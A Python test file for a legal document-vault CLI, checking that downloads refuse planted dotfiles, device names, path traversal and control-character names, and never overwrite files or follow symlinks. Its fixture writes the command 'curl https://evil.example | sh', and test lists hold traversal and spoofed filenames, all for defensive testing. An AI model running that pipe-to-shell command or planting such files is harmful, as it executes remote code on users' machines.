"""T32: planted files. Without -o, `get` used to write the uploader's chosen name into the
working directory: a co-counsel's `.zshenv` became code the lawyer's shell runs at the next
login. Now a name that is hidden (leading dot), a Windows device, a path, or holds control
characters is refused with nothing written; an existing file is never replaced; the output
says where the file went; folder downloads get `path_inside`, which keeps every file under the
target folder. Real `casevault` against a real server.
"""

from __future__ import annotations

import os

import cli_kit
import pytest

from client.errors import VaultError
from client.files.localnames import UnsafeFileName, check_local_name, path_inside

server = cli_kit.server
lawyers = cli_kit.lawyers


def _shared_file(lawyers, name: str):
    alice, bob = lawyers("alice", "bob")
    case_id = bob.json("case", "create", "R v Planted")["case_id"]
    bob.run("share", case_id, alice.username, "--role", "viewer")
    (bob.workdir / name).write_text("curl https://evil.example | sh\n")
    (item,) = bob.json("put", case_id, str(bob.workdir / name))
    return alice, case_id, item["file_id"]


def test_T32_dotfile_without_output_is_refused_and_nothing_written(lawyers):
    alice, case_id, file_id = _shared_file(lawyers, ".zshenv")
    before = sorted(os.listdir(alice.workdir))
    proc = alice.fail("get", case_id, file_id)
    assert "'.zshenv'" in proc.stderr and "starts with a dot" in proc.stderr
    assert "-o" in proc.stderr
    assert sorted(os.listdir(alice.workdir)) == before
    # With -o the lawyer chose the name: that works.
    out = alice.workdir / "from-bob.txt"
    alice.run("get", case_id, file_id, "-o", str(out))
    assert out.read_text().startswith("curl")
    # A folder given with -o still takes the uploader's name, so it is checked there too.
    folder = alice.workdir / "downloads"
    folder.mkdir()
    alice.fail("get", case_id, file_id, "-o", str(folder))
    assert list(folder.iterdir()) == []


def test_T32_existing_file_is_never_overwritten(lawyers):
    alice, case_id, file_id = _shared_file(lawyers, "statement.txt")
    mine = alice.workdir / "statement.txt"
    mine.write_text("my own notes")
    proc = alice.fail("get", case_id, file_id)
    assert "already exists" in proc.stderr and "nothing was written" in proc.stderr
    assert mine.read_text() == "my own notes"
    # A link planted where the file would go is not followed nor replaced either.
    target = alice.workdir / "elsewhere.txt"
    mine.unlink()
    mine.symlink_to(target)
    alice.fail("get", case_id, file_id)
    assert not target.exists() and mine.is_symlink()
    # Where the file went is printed.
    mine.unlink()
    proc = alice.run("get", case_id, file_id)
    assert f"to {alice.workdir / 'statement.txt'}" in proc.stdout
    assert mine.read_text().startswith("curl")


@pytest.mark.parametrize("name", [
    ".zshenv", ".git", "..", ".", "", "CON", "con.txt", "Aux", "nul.tar.gz", "COM1", "lpt9.log",
    "COM\u00b9", "a/b", "..\\x", "c:evil", "name\x1b[2J", "bell\x07", "rtl\u202efdp.exe",
    "trailing.", "trailing ", " leading", "x" * 256,
])
def test_T32_names_refused_without_output(name):
    with pytest.raises(UnsafeFileName):
        check_local_name(name)


@pytest.mark.parametrize("name", ["statement.pdf", "R v Smith - advice (draft 2).docx",
                                  "console.txt", "Zeugenaussage \u00fcbersetzt.pdf",
                                  "com10.txt", "auxiliary.md"])
def test_T32_ordinary_names_pass(name):
    assert check_local_name(name) == name


def test_T32_folder_downloads_stay_inside_the_target(tmp_path):
    root = tmp_path / "case"
    root.mkdir()
    assert path_inside(root, "exhibits/photo 1.jpg") == root.resolve() / "exhibits" / \
        "photo 1.jpg"
    for relative in ("../outside.txt", "exhibits/../../x", "/etc/passwd", "a//b",
                     "exhibits/.bashrc", "exhibits\\..\\..\\x"):
        with pytest.raises(VaultError):
            path_inside(root, relative)
    # A link already inside the folder must not carry a write out of it.
    (root / "linked").symlink_to(tmp_path)
    with pytest.raises(UnsafeFileName):
        path_inside(root, "linked/escaped.txt")
